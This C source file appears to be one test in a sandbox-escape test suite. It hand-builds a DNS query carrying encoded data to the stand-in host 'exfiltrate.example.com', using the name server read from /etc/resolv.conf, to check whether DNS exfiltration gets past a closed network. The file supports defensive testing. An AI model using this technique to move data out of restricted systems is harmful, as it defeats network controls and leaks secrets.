/* What was found, as a label of a name that is asked for. */
#include "../attack.h"

#include <fcntl.h>

#include "dial.h"

/* A question for name, to the server: 0 if an answer with an address comes. */
static long ask(const char *server, const char *name)
{
	struct sockaddr_in a = at4(server, 53);
	unsigned char q[512] = {0x12, 0x34, 1, 0, 0, 1}, *at = q + 12;
	int fd = socket_soon(AF_INET, SOCK_DGRAM);
	ssize_t n;

	while (*name) {
		size_t len = strcspn(name, ".");

		*at++ = (unsigned char)len;
		memcpy(at, name, len);
		at += len;
		name += len + (name[len] == '.');
	}
	at[2] = at[4] = 1; /* A, IN */
	at += 5;
	if (fd < 0 || sendto(fd, q, (size_t)(at - q), 0, (struct sockaddr *)&a, sizeof(a)) < 0)
		return -1;
	n = recv(fd, q, sizeof(q), 0);
	if (n < 0)
		return -1;
	return n > 12 && (q[3] & 15) == 0 && (q[6] || q[7]) ? 0 : denied(ENOENT);
}

static const char *name_server(void)
{
	static char text[64];
	char line[256];
	FILE *f = fopen("/etc/resolv.conf", "re");

	while (f && fgets(line, sizeof(line), f))
		if (sscanf(line, "nameserver %63s", text) == 1)
			break;
	if (f)
		fclose(f);
	return text;
}

ATTACK(NETWORK, "attempts",
       .gain = "data out, by the questions that even a closed network forwards",
       .source = "CVE-2025-55284", .event = "dns.blocked",
       .with = "name=c2vjcmv0lwrhdge.exfiltrate.example.com", .works = SOME_KERNELS,
       .needs = "a name server", .flags = QUIET)
{
	return *name_server() ? ask(name_server(), "c2vjcmv0lwrhdge.exfiltrate.example.com")
			      : NOT_HERE;
}
